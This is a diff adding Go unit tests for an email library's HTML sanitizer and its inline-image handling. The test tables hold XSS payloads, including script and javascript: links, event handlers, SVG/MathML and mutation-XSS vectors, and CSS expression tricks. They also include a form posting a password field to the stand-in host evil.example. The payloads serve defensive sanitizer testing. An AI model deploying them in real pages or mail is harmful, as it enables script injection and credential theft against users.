@@ -0,0 +1,211 @@
+package enmime
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"golang.org/x/net/html"
+)
+
+func TestSanitizeHTMLStripsActiveContent(t *testing.T) {
+	input := `<html><head><script>alert(1)</script>` +
+		`<link rel="stylesheet" href="http://evil.example/x.css">` +
+		`<meta http-equiv="refresh" content="0;url=http://evil.example/">` +
+		`<style>@import url("http://evil.example/y.css"); p { color: red; }</style></head>` +
+		`<body onload="steal()"><p onclick="steal()">Hello</p>` +
+		`<iframe src="http://evil.example/"></iframe>` +
+		`<form action="http://evil.example/post"><input name="pw">Keep me</form>` +
+		`<a href="javascript:alert(1)">bad</a><a href=" JaVa&#09;ScRiPt:alert(1)">bad2</a>` +
+		`<a href="https://example.com/">good</a></body></html>`
+
+	result, err := SanitizeHTML(input, nil)
+	if err != nil {
+		t.Fatalf("Failed to sanitize HTML: %v", err)
+	}
+
+	lower := strings.ToLower(result)
+	for _, bad := range []string{"<script", "alert(1)", "<iframe", "<link", "refresh",
+		"@import", "onload", "onclick", "<form", "<input", "javascript"} {
+		assert.NotContains(t, lower, bad, "Sanitized HTML should not contain %q", bad)
+	}
+	assert.Contains(t, result, "<p>Hello</p>", "Text content should be kept")
+	assert.Contains(t, result, "p { color: red; }", "Local style rules should be kept")
+	assert.Contains(t, result, "Keep me", "Form content should be unwrapped")
+	assert.Contains(t, result, `<a href="https://example.com/">good</a>`, "Safe links should be kept")
+}
+
+var sanitizeForeignContentTestTable = []string{
+	`<svg><style><svg onload=alert(1)></svg></style></svg>`,
+	`<svg><style><a xlink:href="javascript:alert(1)">x</a></style></svg>`,
+	`<svg><a><animate attributeName=href values=javascript:alert(1)></animate><text>x</text></a></svg>`,
+	`<svg><set attributeName=href to=javascript:alert(1)></set><animateMotion from=javascript:alert(1)></animateMotion></svg>`,
+	`<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
+	`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
+}
+
+func TestSanitizeHTMLForeignContent(t *testing.T) {
+	for _, input := range sanitizeForeignContentTestTable {
+		result, err := SanitizeHTML(input, nil)
+		if err != nil {
+			t.Fatalf("Failed to sanitize HTML: %v", err)
+		}
+		lower := strings.ToLower(result)
+		for _, bad := range []string{"alert(1)", "onload", "javascript", "<animate", "<set"} {
+			assert.NotContains(t, lower, bad, "Sanitized %q should not contain %q", input, bad)
+		}
+	}
+
+	result, err := SanitizeHTML(`<svg width="10"><style>rect { fill: red; }</style>`+
+		`<rect width="5" height="5"></rect><a xlink:href="https://example.com/"><text>link</text></a></svg>`, nil)
+	if err != nil {
+		t.Fatalf("Failed to sanitize HTML: %v", err)
+	}
+	assert.Contains(t, result, "rect { fill: red; }")
+	assert.Contains(t, result, `<rect width="5" height="5"></rect>`)
+	assert.Contains(t, result, `xlink:href="https://example.com/"`)
+}
+
+// Mutation XSS vectors of DOMPurify, whose markup changes meaning when the
+// sanitized document is parsed again
+var sanitizeMXSSTestTable = []string{
+	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
+	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
+	`<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;/malignmark&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
+	`<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>`,
+	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
+	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
+}
+
+func TestSanitizeHTMLMutationXSS(t *testing.T) {
+	for _, input := range sanitizeMXSSTestTable {
+		result, err := SanitizeHTML(input, nil)
+		if err != nil {
+			t.Fatalf("Failed to sanitize HTML: %v", err)
+		}
+		doc, err := html.Parse(strings.NewReader(result))
+		if err != nil {
+			t.Fatalf("Failed to parse HTML: %v", err)
+		}
+		var walk func(*html.Node)
+		walk = func(n *html.Node) {
+			for _, a := range n.Attr {
+				assert.False(t, strings.HasPrefix(strings.ToLower(a.Key), "on"),
+					"Sanitized %q has %q once parsed again: %q", input, a.Key, result)
+			}
+			for c := n.FirstChild; c != nil; c = c.NextSibling {
+				walk(c)
+			}
+		}
+		walk(doc)
+	}
+}
+
+func TestSanitizeHTMLStyleAttribute(t *testing.T) {
+	input := `<div style="width: expression(alert(1)); background: url('javascript:alert(1)')">x</div>`
+	result, err := SanitizeHTML(input, nil)
+	if err != nil {
+		t.Fatalf("Failed to sanitize HTML: %v", err)
+	}
+
+	assert.NotContains(t, result, "expression")
+	assert.NotContains(t, result, "javascript")
+	assert.Contains(t, result, "background: none")
+}
+
+func TestSanitizeHTMLObfuscatedCSS(t *testing.T) {
+	input := `<style>@im\port 'http://evil.example/x.css'; p { content: "\"\3c"; color: r\65 d }</style>` +
+		`<div style="width: expr/**/ession(alert(1)); -moz-\62 inding: url(x.xml); background: u\72l(http://e.example/b.png)">x</div>`
+	result, err := SanitizeHTML(input, &SanitizeOptions{BlockRemoteImages: true})
+	if err != nil {
+		t.Fatalf("Failed to sanitize HTML: %v", err)
+	}
+
+	assert.NotContains(t, result, "evil.example")
+	assert.NotContains(t, result, "expression")
+	assert.NotContains(t, result, "binding")
+	assert.NotContains(t, result, "e.example")
+	assert.Contains(t, result, `p { content: "\"\3c"; color: red }`)
+}
+
+func TestSanitizeHTMLBlockRemoteImages(t *testing.T) {
+	input := `<img src="http://tracker.example/p.gif"><img src="cid:logo@example">` +
+		`<img src="data:image/png;base64,AAAA"><td background="https://example.com/bg.png">` +
+		`<div style="background-image: url(https://example.com/bg.png)">x</div>`
+
+	result, err := SanitizeHTML(input, &SanitizeOptions{
+		BlockRemoteImages:      true,
+		RemoteImagePlaceholder: "blocked.png",
+	})
+	if err != nil {
+		t.Fatalf("Failed to sanitize HTML: %v", err)
+	}
+
+	assert.NotContains(t, result, "tracker.example")
+	assert.NotContains(t, result, "example.com")
+	assert.Contains(t, result, `<img src="blocked.png"/>`)
+	assert.Contains(t, result, `url(blocked.png)`)
+	assert.Contains(t, result, `<img src="cid:logo@example"/>`, "cid: images are not remote")
+	assert.Contains(t, result, `<img src="data:image/png;base64,AAAA"/>`, "data: images are not remote")
+
+	result, err = SanitizeHTML(`<img alt="x" src="http://tracker.example/p.gif">`,
+		&SanitizeOptions{BlockRemoteImages: true})
+	if err != nil {
+		t.Fatalf("Failed to sanitize HTML: %v", err)
+	}
+	assert.Contains(t, result, `<img alt="x"/>`, "src should be dropped without placeholder")
+}
+
+func TestSanitizeHTMLDataURL(t *testing.T) {
+	input := `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><img src="data:text/html,foo">`
+	result, err := SanitizeHTML(input, nil)
+	if err != nil {
+		t.Fatalf("Failed to sanitize HTML: %v", err)
+	}
+
+	assert.NotContains(t, result, "data:", "Only data: images are allowed")
+}
+
+func TestSanitizedHTMLResolvesInlines(t *testing.T) {
+	msg := readMessage("html-mime-inline.raw")
+	mime, err := ParseMIMEBody(msg)
+	if err != nil {
+		t.Fatalf("Failed to parse MIME: %v", err)
+	}
+
+	result, err := mime.SanitizedHTML(nil)
+	if err != nil {
+		t.Fatalf("Failed to sanitize HTML: %v", err)
+	}
+	assert.Contains(t, result, `src="data:image/png;base64,iVBORw0KGgo`,
+		"cid: reference should be resolved to the inline part")
+
+	result, err = mime.SanitizedHTML(&SanitizeOptions{
+		CIDResolver: func(cid string) string { return "/inline/" + cid },
+	})
+	if err != nil {
+		t.Fatalf("Failed to sanitize HTML: %v", err)
+	}
+	assert.Contains(t, result, `src="/inline/8B8481A2-25CA-4886-9B5A-8EB9115DD064@skynet"`)
+}
+
+func TestPartByContentID(t *testing.T) {
+	msg := readMessage("html-mime-inline.raw")
+	mime, err := ParseMIMEBody(msg)
+	if err != nil {
+		t.Fatalf("Failed to parse MIME: %v", err)
+	}
+
+	for _, cid := range []string{
+		"8B8481A2-25CA-4886-9B5A-8EB9115DD064@skynet",
+		"<8B8481A2-25CA-4886-9B5A-8EB9115DD064@skynet>",
+		"cid:8B8481A2-25CA-4886-9B5A-8EB9115DD064@skynet",
+	} {
+		p := mime.PartByContentID(cid)
+		if assert.NotNil(t, p, "Part should be found for %q", cid) {
+			assert.Equal(t, "favicon.png", p.FileName())
+		}
+	}
+	assert.Nil(t, mime.PartByContentID("missing@skynet"))
+	assert.Nil(t, mime.PartByContentID(""))
+}